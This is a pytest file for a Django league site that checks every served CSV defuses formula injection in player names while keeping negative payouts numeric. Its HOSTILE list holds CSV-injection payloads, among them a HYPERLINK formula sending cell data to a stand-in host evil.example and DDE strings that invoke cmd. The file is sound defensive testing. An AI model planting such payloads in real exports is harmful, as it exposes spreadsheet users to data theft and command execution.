"""Every CSV the site serves is safe to open in a spreadsheet, whatever the players are called.

A player may call himself `=HYPERLINK(...)`: the cell must reach the spreadsheet as text, while
payouts such as -3 stay numbers (OWASP, "CSV Injection").
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from league.models import Entry, Event
from tests.league.conftest import play_round

pytestmark = pytest.mark.django_db

# Every prefix on OWASP's list (= + - @ tab CR), the two defusedcsv adds (| %), real payloads.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "|cmd",
    "%0A=1",
    "-",
]
# Harmless names that must come out exactly as typed.
FINE = ["Ana", "Jean-Luc", "O'Brien", "1+1", "a=b", "Zoë @home", "x|y"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "|", "%")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def csv_url_names() -> set[str]:
    """Every named URL of the project whose route ends in `.csv`, as `namespace:name`."""
    found: set[str] = set()

    def walk(patterns, namespace: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{p.namespace}:" if p.namespace else namespace)
            elif isinstance(p, URLPattern) and str(p.pattern).endswith(".csv"):
                found.add(f"{namespace}{p.name}")

    walk(get_resolver().url_patterns, "")
    return found


def served_csvs(client, event: Event) -> dict[str, list[list[str]]]:
    """Download every CSV of the event and parse it the way a spreadsheet would read it."""
    urls = {
        "league:standings_csv": reverse("league:standings_csv", args=[event.slug]),
        "league:ledger_csv": reverse("league:ledger_csv", args=[event.slug]),
        "league:travellers_csv": reverse("league:travellers_csv", args=[event.slug, 1]),
    }
    # A new CSV URL must be added here (and so checked) before this test passes again.
    assert set(urls) == csv_url_names()
    out = {}
    for name, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv")
        out[name] = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    return out


@pytest.fixture
def hostile_event(make_event, alice) -> Event:
    names = HOSTILE + FINE
    players = len(names) + (-len(names)) % 3  # full three-player tables
    # duplicate, so that every CSV is served (the travellers' are a duplicate round's)
    event = make_event("saichugen", players=players, scoring="duplicate")
    entries = Entry.objects.filter(event=event).select_related("player").order_by("pk")
    for entry, name in zip(entries, names, strict=False):
        entry.player.name = name
        entry.player.save(update_fields=["name"])
    play_round(event, alice)
    play_round(event, alice, seed=5)
    return event


def unescaped(cell: str) -> str:
    """The text a neutralised cell stands for (the `'` and defusedcsv's `\\|` removed)."""
    assert cell.startswith("'"), repr(cell)
    return cell[1:].replace("\\|", "|")


def test_every_csv_neutralises_formulas_and_keeps_numbers(client, hostile_event):
    for name, rows in served_csvs(client, hostile_event).items():
        header, body = rows[0], rows[1:]
        player = header.index("player")
        shown = {}
        for row in body:
            for cell in row:
                # No cell a spreadsheet would run: text that starts dangerously got a quote.
                assert not cell.startswith(DANGEROUS_START) or NUMBER.fullmatch(cell), (name, row)
            shown.setdefault(row[player], row)
        names = {unescaped(c) if c.startswith("'") else c for c in shown}
        assert set(HOSTILE) <= names, name  # each one is there, as text
        for fine in FINE:
            assert fine in shown, (name, fine)  # exactly as typed, no quote added
        for hostile in HOSTILE:
            assert hostile not in shown, (name, hostile)


def test_negative_payouts_stay_numbers(client, hostile_event):
    rows = served_csvs(client, hostile_event)
    ledger = rows["league:ledger_csv"]
    payout = ledger[0].index("payout")
    payouts = [row[payout] for row in ledger[1:]]
    assert any(p.startswith("-") for p in payouts)  # a losing seat, written -N, not '-N
    assert sum(int(p) for p in payouts) == 0  # every cell still parses as a number
    standings = rows["league:standings_csv"]
    total = standings[0].index("total_payouts")
    totals = [row[total] for row in standings[1:]]
    assert any(t.startswith("-") for t in totals)
    assert sum(int(t) for t in totals) == 0
